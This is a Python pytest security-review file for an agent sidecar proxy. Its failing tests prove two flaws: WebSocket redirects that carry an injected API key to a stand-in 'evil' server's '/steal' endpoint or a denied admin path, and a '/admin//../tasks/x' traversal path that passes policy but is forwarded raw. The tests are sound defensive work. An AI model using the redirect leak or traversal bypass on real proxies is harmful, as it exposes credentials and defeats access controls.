"""Security review: attacker-driven proofs against the running sidecar (loopback only).

Tests marked ``xfail(strict=True)`` demonstrate a vulnerability: they fail today and will
pass once the finding named in ``reason`` is fixed. Unmarked tests confirm a defence holds.
"""

from __future__ import annotations

import ssl
from pathlib import Path

import aiohttp
import pytest
from aiohttp import web

from tests.harness import SidecarHarness, Upstream, raw_http

SECRET = "canary-static-secret-5e1d9b"


def out_config(upstream: Upstream, **extra: object) -> dict:
    return {
        "agent": {"name": "billing-agent", "environment": "test"},
        "outbound": {"upstreams": {"billing": {"url": upstream.url + "/api", "hosts": ["billing.internal"],
                                                "credential": "legacy", **extra}}},
        "credentials": {"legacy": {"type": "static", "header": "X-API-Key", "value": {"value": SECRET}}},
    }


OUT_POLICY = {"version": 1, "default": "deny", "rules": [
    {"id": "no-admin", "direction": "outbound", "upstream": "billing", "paths": ["/v1/admin/**"], "effect": "deny"},
    {"id": "v1", "direction": "outbound", "upstream": "billing", "methods": ["GET", "POST"],
     "paths": ["/v1/**"], "effect": "allow"},
]}


# -- F1: WebSocket handshakes follow redirects ------------------------------------------------

@pytest.mark.xfail(strict=True, reason="F1")
async def test_f1_websocket_redirect_does_not_carry_the_credential_to_another_origin(make_sidecar):
    """A WebSocket upgrade answered with a redirect must not deliver the injected credential to another origin."""
    evil = await Upstream().start()

    async def redirect(request: web.Request) -> web.StreamResponse:
        return web.Response(status=302, headers={"Location": f"{evil.url}/steal"})

    good = await Upstream(redirect).start()
    try:
        h = await make_sidecar(out_config(good), OUT_POLICY)
        async with aiohttp.ClientSession() as s:
            with pytest.raises(aiohttp.WSServerHandshakeError):
                async with s.ws_connect(f"{h.outbound}/billing/v1/stream"):
                    pass
        leaked = [seen.header("X-API-Key") for seen in evil.seen]
        assert SECRET not in leaked, "the static credential reached an origin no policy allowed"
    finally:
        await good.stop()
        await evil.stop()


@pytest.mark.xfail(strict=True, reason="F1")
async def test_f1_websocket_redirect_does_not_reach_a_path_policy_denies(make_sidecar):
    """A same-origin redirect of a WebSocket upgrade must not carry the credential to a path a deny rule covers."""
    async def handler(request: web.Request) -> web.StreamResponse:
        if request.path.endswith("/stream"):
            return web.Response(status=302, headers={"Location": "/api/v1/admin/users"})
        return web.Response(status=404)

    good = await Upstream(handler).start()
    try:
        h = await make_sidecar(out_config(good), OUT_POLICY)
        async with aiohttp.ClientSession() as s:
            with pytest.raises(aiohttp.WSServerHandshakeError):
                async with s.ws_connect(f"{h.outbound}/billing/v1/stream"):
                    pass
        assert [seen.path for seen in good.seen] == ["/api/v1/stream"], "the redirect was followed upstream"
    finally:
        await good.stop()


# -- F2: inbound forwards the raw path, not the canonical path it matched ---------------------

INBOUND_POLICY = {"version": 1, "default": "deny", "rules": [
    {"id": "orchestrator", "direction": "inbound", "callers": ["spiffe://sidecar.local/orchestrator"],
     "paths": ["/tasks/**"], "effect": "allow"},
]}


def inbound_config(agent: Upstream) -> dict:
    return {"agent": {"name": "billing-agent"},
            "inbound": {"forward_to": agent.url, "trust_domains": ["sidecar.local"]},
            "outbound": {"upstreams": {}}}


def caller_context(h: SidecarHarness, spiffe_id: str, out: Path) -> ssl.SSLContext:
    from sidecar.identity.ca import ca_issue

    paths = ca_issue(h.sidecar.config.state_dir, spiffe_id, out)
    ctx = ssl.create_default_context(cafile=str(paths["bundle"]))
    ctx.check_hostname = False
    ctx.load_cert_chain(str(paths["cert"]), str(paths["key"]))
    return ctx


@pytest.mark.xfail(strict=True, reason="F2")
async def test_f2_inbound_forwards_the_path_policy_matched(make_sidecar, tmp_path):
    """The agent must receive the canonical path the inbound rule matched, not the caller's raw path."""
    resolved: list[str] = []

    async def agent_handler(request: web.Request) -> web.StreamResponse:
        resolved.append(request.url.path)  # how an aiohttp/yarl agent resolves the target it received
        return web.json_response({"ok": True})

    agent = await Upstream(agent_handler).start()
    try:
        h = await make_sidecar(inbound_config(agent), INBOUND_POLICY)
        ctx = caller_context(h, "spiffe://sidecar.local/orchestrator", tmp_path / "caller")
        url = aiohttp.client.URL(f"https://127.0.0.1:{h.port('inbound')}/admin//../tasks/x", encoded=True)
        async with aiohttp.ClientSession() as s:
            async with s.get(url, ssl=ctx) as r:
                assert r.status == 200  # policy matched /tasks/x
        event = (await h.settle())[-1]
        assert event["target"]["path"] == "/tasks/x"
        assert agent.seen[-1].path == "/tasks/x", f"agent received {agent.seen[-1].path!r}, resolved {resolved}"
    finally:
        await agent.stop()
